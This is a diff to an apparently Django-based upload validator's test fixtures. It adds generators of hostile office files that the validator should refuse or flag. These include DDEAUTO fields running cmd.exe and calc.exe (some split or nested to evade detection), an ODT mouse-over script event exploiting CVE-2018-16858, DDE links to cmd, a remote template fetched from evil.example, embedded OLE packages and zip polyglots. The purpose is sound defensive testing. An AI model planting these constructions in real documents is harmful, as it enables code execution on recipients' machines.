@@ -11,11 +11,26 @@ test client rewrites file names (``os.path.basename``) and ``SimpleUploadedFile`
 import functools
 import io
 import struct
+import warnings
 import zipfile
 from dataclasses import dataclass
 from urllib.parse import quote
 
-from tests.document_files import doc, docx, odt, pdf, pdf_file
+from pypdf import PdfReader, PdfWriter
+
+from tests.document_files import (
+    CONTENT_TYPES,
+    DOCUMENT,
+    ODT_MANIFEST,
+    PACKAGE_RELS,
+    WORD_MACRO_MAIN,
+    WORD_MAIN,
+    doc,
+    docx,
+    odt,
+    pdf,
+    pdf_file,
+)
 
 MIB = 1024 * 1024
 OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
@@ -112,6 +127,21 @@ def zip_then_pdf():
     return zip_archive() + pdf()
 
 
+def docx_behind_a_macro_docx():
+    """A DOCX with macros, then a plain one: zip readers that start from the end (Word) see the plain one, those that
+    stream from the start see the macros."""
+    return docx_with_macro() + docx()
+
+
+def docx_then_program():
+    """A DOCX with a program joined after its end: an archive to Word, a program to whatever skips to the end."""
+    return docx() + pe()
+
+
+def odt_then_html():
+    return odt() + html()
+
+
 def pdf_header_html():
     """A PDF header in front of an HTML body: a PDF by its first bytes, a page to a browser that sniffs."""
     return b"%PDF-1.4\n" + html() + b"\n%%EOF\n"
@@ -182,9 +212,168 @@ def doc_with_macros():
     return doc(("WordDocument", "Macros"))
 
 
+def docx_with_password():
+    """A DOCX saved with a password: Word writes a compound file holding the encrypted package (MS-OFFCRYPTO)."""
+    return doc(("EncryptionInfo", "EncryptedPackage"))
+
+
+def doc_with_password():
+    """A Word 97-2003 file saved with a password: its FibBase says so (fEncrypted); its text cannot be read."""
+    return doc(fib_flags=0x0100)
+
+
+def pdf_with_password():
+    """A PDF that opens only with a password (RC4, which pypdf writes without a cryptography library)."""
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
+    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
 def odt_with_macro():
     """An ODT carrying a Basic macro library."""
     return odt([("Basic/Standard/Module1.xml", "<script:module/>")])
+
+
+def docx_with_dde():
+    """A DOCX whose field starts a program when the document opens (DDEAUTO, the 2017 attack): no macro in it."""
+    field = "<w:fldSimple w:instr=' DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\" '/>"
+    return docx([("word/document.xml", DOCUMENT.replace("<w:p>", f"<w:p>{field}"))])
+
+
+def docx_with_split_dde_in_footer():
+    """The same field in a footer, its instruction split over two runs as Word writes it after an edit."""
+    footer = (
+        '<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>'
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
+        '<w:r><w:instrText>E cmd "/c calc" x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        "</w:p></w:ftr>"
+    )
+    return docx([("word/footer1.xml", footer)])
+
+
+def docx_with_nested_dde():
+    """A DDE field inside an IF field, as obfuscated documents hide it."""
+    runs = (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc" x</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>"</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+    return docx([("word/document.xml", DOCUMENT.replace("<w:p>", f"<w:p>{runs}"))])
+
+
+def docx_with_fields():
+    """A DOCX with everyday fields (a page number, a date, links) whose addresses hold "DDE"."""
+    fields = (
+        '<w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr=\' DATE \\@ "d MMMM yyyy" \'/>'
+        "<w:fldSimple w:instr=' HYPERLINK \"https://www.un.org/ODDE.docx\" '/>"
+        "<w:fldSimple w:instr=' INCLUDEPICTURE \"https://www.un.org/DDE/logo.png\" '/>"
+    )
+    return docx([("word/document.xml", DOCUMENT.replace("<w:p>", f"<w:p>{fields}"))])
+
+
+SCRIPT_NAMESPACE = 'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
+
+
+def odt_with_script_event():
+    """An ODT whose link runs a Python script of LibreOffice itself on mouse-over (CVE-2018-16858): no macro."""
+    return odt(
+        body=f'<text:p {SCRIPT_NAMESPACE}><text:a xlink:type="simple" xlink:href="https://www.un.org/">'
+        '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:mouseover" '
+        'xlink:href="vnd.sun.star.script:pydoc.py$tempfilepager(1, calc.exe )?language=Python&amp;location=share" '
+        'xlink:type="simple"/></office:event-listeners>Read more</text:a></text:p>'
+    )
+
+
+def odt_with_script_link():
+    """An ODT whose link, once clicked, runs a macro of the office suite."""
+    return odt(
+        body='<text:p><text:a xlink:type="simple" '
+        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application">'
+        "Read more</text:a></text:p>"
+    )
+
+
+def odt_with_dde_link():
+    """An ODT whose section is fed by a DDE link to "cmd": updating the link starts the program."""
+    return odt(
+        body='<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" '
+        'office:dde-topic="/c calc.exe" office:dde-item="x" office:automatic-update="true"/>'
+        "</text:dde-connection-decls>"
+    )
+
+
+def odt_with_script_in_embedded_object():
+    """An ODT embedding an object whose own content binds an event to a script."""
+    return odt(
+        [
+            (
+                "Object 1/content.xml",
+                '<?xml version="1.0"?><office:document-content '
+                'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+                f'{SCRIPT_NAMESPACE} xmlns:xlink="http://www.w3.org/1999/xlink"><office:event-listeners>'
+                '<script:event-listener script:event-name="dom:load" '
+                'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/>'
+                "</office:event-listeners></office:document-content>",
+            )
+        ]
+    )
+
+
+def odt_with_password():
+    """An ODT saved with a password: its content is encrypted, as the manifest's encryption data says."""
+    manifest = (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
+        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
+        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="812">'
+        '<manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'
+        '#sha256-1k" manifest:checksum="b5Z3mD2Vx4o="><manifest:algorithm manifest:algorithm-name='
+        '"http://www.w3.org/2001/04/xmlenc#aes256-cbc" manifest:initialisation-vector="c2VjcmV0aXY="/>'
+        "</manifest:encryption-data></manifest:file-entry></manifest:manifest>"
+    )
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("mimetype", ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
+        archive.writestr("META-INF/manifest.xml", manifest)
+        archive.writestr("content.xml", bytes(range(256)) * 3)  # what encrypted content looks like: no XML
+    return buffer.getvalue()
+
+
+def docx_with_remote_template_in_capitals():
+    """A DOCX fetching a remote template from a relationships part whose name ends in capitals (".RELS")."""
+    return docx(
+        [
+            (
+                "word/_rels/settings.xml.RELS",
+                '<?xml version="1.0"?><Relationships><Relationship Id="rId1" '
+                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+                'Target="https://evil.example/template.dotm" TargetMode="External"/></Relationships>',
+            )
+        ]
+    )
+
+
+def docx_with_ole_package():
+    """A DOCX embedding an OLE object (an "oleObject1.bin" compound file): a packaged program shown as an icon."""
+    return docx([("word/embeddings/oleObject1.bin", doc(("\x01Ole10Native",)))])
+
+
+def doc_with_object_pool():
+    """A Word 97-2003 file with an ObjectPool: the OLE objects it embeds."""
+    return doc(("WordDocument", "ObjectPool"))
+
+
+def odt_with_ole_object():
+    """An ODT embedding an OLE object, as its manifest declares it."""
+    manifest = ODT_MANIFEST.replace(
+        "</manifest:manifest>",
+        '<manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/>'
+        "</manifest:manifest>",
+    )
+    return odt([("META-INF/manifest.xml", manifest), ("Object 1", doc(("\x01Ole10Native",)))])
 
 
 def odt_with_remote_image():
@@ -281,6 +470,24 @@ def docx_zip_slip_drive():
     return docx([("C:/Windows/Temp/evil.bat", b"calc.exe\r\n")])
 
 
+def docx_with_duplicate_part():
+    """A DOCX whose first [Content_Types].xml declares macros and whose second, the one zipfile reads, does not."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MACRO_MAIN))
+        archive.writestr("_rels/.rels", PACKAGE_RELS)
+        archive.writestr("word/document.xml", DOCUMENT)
+        archive.writestr("word/vbaProject.bin", OLE2_MAGIC + bytes(504))
+        with warnings.catch_warnings(action="ignore", category=UserWarning):  # zipfile's "Duplicate name"
+            archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MAIN))
+    return buffer.getvalue()
+
+
+def docx_with_part_twice_in_two_cases():
+    """A DOCX with a second document part under the same name in other capitals, the same part to Word."""
+    return docx([("WORD/DOCUMENT.XML", DOCUMENT.replace("A written submission", "Another text"))])
+
+
 def docx_with_nameless_entry():
     """A DOCX with an entry whose name is empty (zipfile will not write one): the one-letter name of its last entry
     becomes a one-byte "extra field", in its local header and in its directory record."""
@@ -352,6 +559,9 @@ HOSTILE_FILES = [
     Hostile("gifar-as-pdf", "report.pdf", gifar, "wrong_type"),
     Hostile("zip-then-pdf", "report.pdf", zip_then_pdf, "wrong_type"),
     Hostile("plain-zip-as-docx", "report.docx", zip_archive, "wrong_type"),
+    Hostile("docx-behind-macro-docx", "report.docx", docx_behind_a_macro_docx, "unreadable"),
+    Hostile("docx-then-program", "report.docx", docx_then_program, "unreadable"),
+    Hostile("odt-then-html", "report.odt", odt_then_html, "unreadable"),
     # Refused: a real document of another kind than its name says.
     Hostile("docx-as-pdf", "report.pdf", docx, "type_mismatch"),
     Hostile("pdf-as-docx", "report.docx", pdf, "type_mismatch"),
@@ -367,6 +577,19 @@ HOSTILE_FILES = [
     Hostile("docx-macro-enabled", "report.docx", docx_macro_enabled_named_docx, "macros"),
     Hostile("doc-macros", "report.doc", doc_with_macros, "macros"),
     Hostile("odt-macro", "report.odt", odt_with_macro, "macros"),
+    # Refused: fields and links that run a program or a script, with no macro in the file.
+    Hostile("docx-dde", "report.docx", docx_with_dde, "scripts"),
+    Hostile("docx-split-dde-footer", "report.docx", docx_with_split_dde_in_footer, "scripts"),
+    Hostile("docx-nested-dde", "report.docx", docx_with_nested_dde, "scripts"),
+    Hostile("odt-script-event", "report.odt", odt_with_script_event, "scripts"),
+    Hostile("odt-script-link", "report.odt", odt_with_script_link, "scripts"),
+    Hostile("odt-dde-link", "report.odt", odt_with_dde_link, "scripts"),
+    Hostile("odt-script-embedded-object", "report.odt", odt_with_script_in_embedded_object, "scripts"),
+    # Refused: protected by a password, so neither read nor scanned.
+    Hostile("pdf-password", "report.pdf", pdf_with_password, "encrypted"),
+    Hostile("docx-password", "report.docx", docx_with_password, "encrypted"),
+    Hostile("doc-password", "report.doc", doc_with_password, "encrypted"),
+    Hostile("odt-password", "report.odt", odt_with_password, "encrypted"),
     # Refused: archives dangerous to open.
     Hostile("odt-bomb", "report.odt", odt_bomb, "archive_bomb"),
     Hostile("docx-bomb", "report.docx", docx_bomb, "archive_bomb"),
@@ -377,6 +600,8 @@ HOSTILE_FILES = [
     Hostile("docx-zip-slip-windows", "report.docx", docx_zip_slip_windows, "archive_paths"),
     Hostile("docx-zip-slip-drive", "report.docx", docx_zip_slip_drive, "archive_paths"),
     Hostile("docx-nameless-entry", "report.docx", docx_with_nameless_entry, "archive_paths"),
+    Hostile("docx-duplicate-part", "report.docx", docx_with_duplicate_part, "archive_paths"),
+    Hostile("docx-part-twice-in-two-cases", "report.docx", docx_with_part_twice_in_two_cases, "archive_paths"),
     # Refused: empty.
     Hostile("empty-pdf", "report.pdf", empty, "empty"),
 ]
@@ -388,9 +613,13 @@ FLAGGED_FILES = [
     Hostile("pdf-xfa", "report.pdf", pdf_with_xfa, kind="pdf"),
     Hostile("pdf-then-zip", "report.pdf", pdf_then_zip, kind="pdf"),
     Hostile("docx-remote-template", "report.docx", docx_with_remote_template, kind="docx"),
+    Hostile("docx-remote-template-capitals", "report.docx", docx_with_remote_template_in_capitals, kind="docx"),
     Hostile("docx-linked-image", "report.docx", docx_with_linked_image, kind="docx"),
     Hostile("docx-activex", "report.docx", docx_with_activex, kind="docx"),
     Hostile("odt-remote-image", "report.odt", odt_with_remote_image, kind="odt"),
+    Hostile("docx-ole-package", "report.docx", docx_with_ole_package, kind="docx"),
+    Hostile("doc-object-pool", "report.doc", doc_with_object_pool, kind="doc"),
+    Hostile("odt-ole-object", "report.odt", odt_with_ole_object, kind="odt"),
 ]
 FLAGS = {
     "pdf-javascript": {"pdf_open_action", "pdf_javascript", "pdf_additional_actions", "pdf_launch"},
@@ -398,9 +627,13 @@ FLAGS = {
     "pdf-xfa": {"pdf_xfa"},
     "pdf-then-zip": {"trailing_data"},
     "docx-remote-template": {"external_resource"},
+    "docx-remote-template-capitals": {"external_resource"},
     "docx-linked-image": {"external_resource"},
     "docx-activex": {"activex"},
     "odt-remote-image": {"external_resource"},
+    "docx-ole-package": {"embedded_object"},
+    "doc-object-pool": {"embedded_object"},
+    "odt-ole-object": {"embedded_object"},
 }
 
 # Accepted as they are, with nothing to flag.
@@ -409,6 +642,7 @@ PLAIN_DOCUMENTS = [
     Hostile("doc", "report.doc", doc, kind="doc"),
     Hostile("docx", "report.docx", docx, kind="docx"),
     Hostile("docx-hyperlink", "report.docx", docx_with_hyperlink, kind="docx"),
+    Hostile("docx-fields", "report.docx", docx_with_fields, kind="docx"),
     Hostile("odt", "report.odt", odt, kind="odt"),
 ]
 
